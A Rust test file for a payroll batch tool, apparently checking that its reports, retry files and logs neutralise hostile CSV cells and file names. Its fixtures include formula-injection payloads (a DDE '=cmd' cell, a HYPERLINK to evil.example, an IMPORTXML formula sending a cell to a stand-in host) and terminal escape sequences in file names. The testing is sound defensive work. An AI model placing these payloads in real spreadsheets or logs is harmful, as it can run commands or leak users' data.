//! What the built program writes about hostile cells and names: reports, retry files, errors files,
//! summaries, STATUS.txt, the log. Harmless in every one of them, and the same again when a retry
//! file is dropped as it is.
//!
//! Must never: look at a file with the product's own eyes.

use super::cells;
use super::process::House;
use super::spectrum;
use std::ffi::OsStr;
use std::fs;
use std::path::PathBuf;

/// Cells as somebody writes them who wants them run. No control characters: those are refused.
const CELLS: [&str; 16] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "x;=1+1",
    "x|=1+1",
    "\"=1+1\"",
    "'=1+1",
    "''=1+1",
    "=IMPORTXML(CONCAT(\"http://e/\";A1);\"//a\")",
];

/// The same for columns that may hold line ends and tabs.
const MULTILINE: [&str; 5] = ["\t=1+1", "\r=1+1", "\n=1+1", "a\n=1+1", "a\r\n@SUM(A1)\tx\t=2"];

const REFUSED: &str = "=cmd|' /C calc'!A0;=1+1";

/// What a cell of a dropped file means: an apostrophe before a formula is the one that payoutd, or a
/// spreadsheet, puts there.
fn meant(cell: &str) -> String {
    cell.strip_prefix('\'').unwrap_or(cell).to_string()
}

fn quoted(cell: &str) -> String {
    format!("\"{}\"", cell.replace('"', "\"\""))
}

fn faults() -> tempfile::NamedTempFile {
    let file = tempfile::NamedTempFile::new().unwrap();
    let text = format!(
        "[[fault]]\ncall = \"transfer\"\nkind = \"refuse\"\nreceiver = \"*99\"\nmessage = \"Maximum Account Balance\"\n\
         [[fault]]\ncall = \"transfer\"\nkind = \"refuse\"\nreceiver = \"*98\"\nstatus = 400\nmessage = {:?}\n",
        REFUSED
    );
    fs::write(file.path(), text).unwrap();
    file
}

const SAFETY: &str = "[safety]\ngrace = \"1s\"\nask_every = \"100ms\"\nnot_found_answers = 2\nequal_refusals = 1000\n\
                      paid_already_within = \"\"\nmin_free = \"1MB\"\n[balance]\npoll = \"1s\"\nbalance_lag = \"100ms\"\n";

/// Every file below `batches/` whose name ends so.
fn files(house: &House, ending: &str) -> Vec<(PathBuf, String)> {
    let all = house.tree("batches").into_iter();
    let wanted = all.filter(|(path, _)| path.as_os_str().as_encoded_bytes().ends_with(ending.as_bytes()));
    wanted.map(|(path, bytes)| (path, String::from_utf8(bytes).expect("text"))).collect()
}

fn the_report(house: &House, stem: &str) -> Vec<Vec<String>> {
    let found = files(house, ".report.csv")
        .into_iter()
        .find(|(path, _)| path.file_name().unwrap().to_string_lossy().starts_with(stem));
    let (_, text) = found.unwrap_or_else(|| panic!("no report of {stem}"));
    let text = text.split_once('\n').unwrap().1.to_string();
    cells::records(text.as_bytes(), b',')
}

/// Without the apostrophes that were put before what would run.
fn bare(cell: &str) -> String {
    payoutd::payroll::writer::undo_harmless(cell).into_owned()
}

#[test]
fn no_cell_runs_no_name_strikes_and_a_retry_file_comes_back_as_it_was() {
    let faults = faults();
    let house = House::new(&["--faults", faults.path().to_str().unwrap()], SAFETY);
    let mut text = String::from("reference,receiver,amount,name,description,note,\"=1+1\",\"x;@y\"\n");
    let mut expected = Vec::new();
    let all: Vec<&str> = CELLS.iter().chain(&MULTILINE).copied().collect();
    for (number, cell) in all.iter().enumerate() {
        let short = if number < CELLS.len() { cell } else { "Marie" };
        // Ten in eleven are declined, half of them in MonCash's hostile words; the last one is paid.
        let receiver = if number + 1 == all.len() { 37_007_200 } else { 37_000_098 + number * 100 + number % 2 };
        text.push_str(&format!("PAY-{number},{receiver},10.00,{0},{0},{1},{1},{1}\n", quoted(short), quoted(cell)));
        expected.push((meant(short), meant(cell)));
    }
    house.write("batches/inbox/=1+1;=cmd.csv", &text);
    let bad = "reference,receiver,amount,name\n=1+1,\"=2;=3\",\"@x;=1+1\",\"a\u{1b}[2Jb\"\n\
               \"-1|=1\",+2,\"\t=1\",\"\u{202e}x\"\n";
    house.write("batches/inbox/-\u{1b}[2J\nEvent number: 987654321.csv", bad);
    house.write("batches/inbox/\u{1b}]0;x\u{7}.txt", "x");
    for (case, _) in spectrum::CASES {
        fs::write(house.path(&format!("batches/inbox/{case}.csv")), spectrum::text_of(case)).unwrap();
    }
    let mut said = house.run("--log debug run --once --for 100s").ends(3);
    let again = |said: &mut super::process::Said, more: super::process::Said| {
        said.out.push_str(&more.out);
        said.err.push_str(&more.err);
    };
    let rows = the_report(&house, "=1+1;=cmd");
    assert_eq!(rows.len(), expected.len() + 1);
    assert_eq!(rows[0][17..].iter().map(|cell| bare(cell)).collect::<Vec<_>>(), ["note", "=1+1", "x;@y"]);
    for (row, (short, long)) in rows[1..].iter().zip(&expected) {
        assert_eq!([bare(&row[3]), bare(&row[5])], [short.clone(), short.clone()]);
        assert_eq!(row[17..].iter().map(|cell| bare(cell)).collect::<Vec<_>>(), vec![long.clone(); 3]);
    }
    let declined = rows.iter().filter(|row| row[6] == "declined").count();
    assert_eq!((declined, rows.iter().filter(|row| row[6] == "paid").count()), (expected.len() - 1, 1));
    assert!(rows.iter().any(|row| bare(&row[13]).contains("=cmd")), "MonCash's words are among them");
    for (case, cells) in spectrum::CASES {
        let rows = the_report(&house, &format!("{case}.B"));
        let other: Vec<Vec<String>> =
            rows[1..].iter().map(|row| row[17..].iter().map(|cell| bare(cell)).collect()).collect();
        assert_eq!(other, *cells, "{case}");
        assert!(rows[1..].iter().all(|row| row[6] == "paid"), "{case}");
    }

    // The retry file as it is: every cell is what it was.
    let retries = files(&house, ".retry.csv");
    let [(_, retry)] = retries.as_slice() else { panic!("{retries:?}") };
    house.write("batches/inbox/again.csv", retry);
    again(&mut said, house.run("--log debug run --once --for 100s").ends(3));
    let rows = the_report(&house, "again");
    assert_eq!(rows.len(), expected.len());
    for (row, (short, long)) in rows[1..].iter().zip(&expected) {
        assert_eq!([bare(&row[3]), bare(&row[5])], [short.clone(), short.clone()]);
        assert_eq!(row[18..].iter().map(|cell| bare(cell)).collect::<Vec<_>>(), vec![long.clone(); 3]);
    }
    // And the first file again: its errors file tells of every row.
    house.write("batches/inbox/twice.csv", &text);
    again(&mut said, house.run("--log debug run --once --for 100s").ends(3));
    again(&mut said, house.run("status"));
    again(&mut said, house.run("explain PAY-0"));
    again(&mut said, house.run_args(&["check", "batches/rejected/twice.csv"]));

    let mut looked_at = 0;
    for ending in [".report.csv", ".retry.csv", ".errors.csv", ".new.csv"] {
        for (path, text) in files(&house, ending) {
            assert_eq!(cells::runnable(&text), Vec::<&str>::new(), "{}", path.display());
            let unseen = text.chars().find(|c| c.is_control() && !"\n\r\t".contains(*c) || *c == '\u{202e}');
            assert_eq!(unseen, None, "{}", path.display());
            looked_at += 1;
        }
    }
    assert!(looked_at > 2 * spectrum::CASES.len() / 2 + 4, "{looked_at}");
    for (path, text) in files(&house, ".txt").into_iter().filter(|(path, _)| !path.to_string_lossy().contains("inbox"))
    {
        let unseen = text.chars().find(|c| c.is_control() && *c != '\n' || *c == '\u{202e}');
        assert_eq!(unseen, None, "{}", path.display());
        assert!(!text.lines().any(|line| line.starts_with("Event number: 987654321")), "{}", path.display());
    }
    for stream in [&said.out, &said.err] {
        assert_eq!(stream.chars().find(|c| c.is_control() && *c != '\n' || *c == '\u{202e}'), None);
    }
    assert!(house.path("batches/inbox").join(OsStr::new("\u{1b}]0;x\u{7}.txt")).exists());
}
